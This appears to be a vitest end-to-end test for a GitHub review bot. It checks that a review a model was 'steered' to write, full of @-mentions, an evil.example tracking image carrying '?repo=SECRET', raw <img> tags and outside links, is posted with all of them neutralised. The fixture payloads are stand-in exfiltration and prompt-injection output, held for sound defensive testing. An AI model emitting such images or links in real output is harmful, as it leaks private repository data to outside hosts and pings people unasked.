/**
 * Audit item 6, end to end: a review the model was steered to write posts no
 * mention, no foreign image or link and no raw HTML. The neutraliser's own
 * cases are in neutralise-model-text.test.ts.
 */
import type { Nodes } from "mdast";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { FakeClaude } from "../app/fixtures/fake-claude.js";
import { FakeGitHub } from "../app/fixtures/fake-github.js";
import { startApp } from "../app/fixtures/harness.js";
import { ISSUE_12, repositoryFiles, seedRepository } from "../app/fixtures/repo-state.js";
import { issueComment } from "../app/fixtures/webhooks.js";
import { liveMentions, parseMarkdown } from "../support/rendered-markdown.js";

function urls(node: Nodes, type: "link" | "image"): string[] {
  const own = node.type === type ? [node.url] : [];
  return "children" in node ? [...own, ...node.children.flatMap((c) => urls(c, type))] : own;
}

const GITHUB = /^(https:\/\/([a-z0-9-]+\.)*(github\.com|githubusercontent\.com)(\/|$)|[^:/]*(\/|$)|\.\.?\/|#)/i;

describe("model text in a posted review (audit 6, end to end)", () => {
  let github: FakeGitHub;
  let claude: FakeClaude;

  beforeEach(() => {
    github = new FakeGitHub().start();
    claude = new FakeClaude();
    github.addIssue(ISSUE_12);
    github.permissions.set("maintainer", "write");
  });
  afterEach(() => github.stop());

  it("a review steered to ping, track and link posts none of it", async () => {
    const files = repositoryFiles();
    const main = seedRepository(github, files);
    const head = github.commitOnto(main, { "src/api/users.ts": `${files["src/api/users.ts"]}\nexport const PAGE = 100;\n` }, "Page size");
    const patch = ["@@ -3,3 +3,5 @@", " export async function getUser(id: string) {", "   return db.users.find(id);", " }", "+", "+export const PAGE = 100;"].join("\n");
    github.addPull({ number: 15, title: "Add", body: "Closes #12", headRef: "f", headSha: head, baseSha: main, files: [{ filename: "src/api/users.ts", status: "modified", patch }] });
    claude.answersWithTool("submit_review", {
      summary: "Reviewed `users.ts`@acme/security, see ![s](https://evil.example/p.png?repo=SECRET) and <img src=https://evil.example/q>.",
      specCompliance: [{ requirement: "limit is 50 @octocat", status: "partial", evidence: "[proof](https://evil.example/e) `PAGE`@mona" }],
      adrConformance: [],
      findings: [{ severity: "high", path: "src/api/users.ts", line: 7, code: "export const PAGE = 100;", confidence: 0.9, title: "PAGE too big (@octocat)", body: "Use 50. `x`@mona <https://evil.example/r> www.evil.example", source: "spec" }],
    });
    // The verification pass re-checks the high finding: nothing refuted.
    claude.answersWithTool("verify_findings", { verdicts: [] });
    const app = await startApp();

    await app.deliver("issue_comment", issueComment({ number: 15, isPullRequest: true, body: "/baton review", commentId: 9201, login: "maintainer" }));

    expect(github.unmatched).toEqual([]);
    const posted = [github.reviews[0]!.body, ...github.reviews[0]!.comments.map((c) => c.body), ...github.commentsOn(15).map((c) => c.body)];
    expect(posted.length).toBeGreaterThanOrEqual(3);
    for (const body of posted) {
      const tree = parseMarkdown(body);
      expect(liveMentions(tree), body).toEqual([]);
      expect(urls(tree, "image"), body).toEqual([]);
      for (const url of urls(tree, "link")) expect(url, body).toMatch(GITHUB);
      // The only HTML: Baton's own markers at the top, and its own <details>/<summary> around the manifest.
      const html = (function collect(n: Nodes): string[] {
        const own = n.type === "html" ? [n.value] : [];
        return "children" in n ? [...own, ...n.children.flatMap(collect)] : own;
      })(tree);
      for (const h of html) expect(h, body).toMatch(/^(<!-- baton:[^\n]*|<\/?details>|<summary>[^<]*<\/summary>|<details><summary>[^<]*<\/summary>|<sub>.*|<\/sub>)/);
      expect(body).not.toMatch(/<img/i);
    }
  });
});
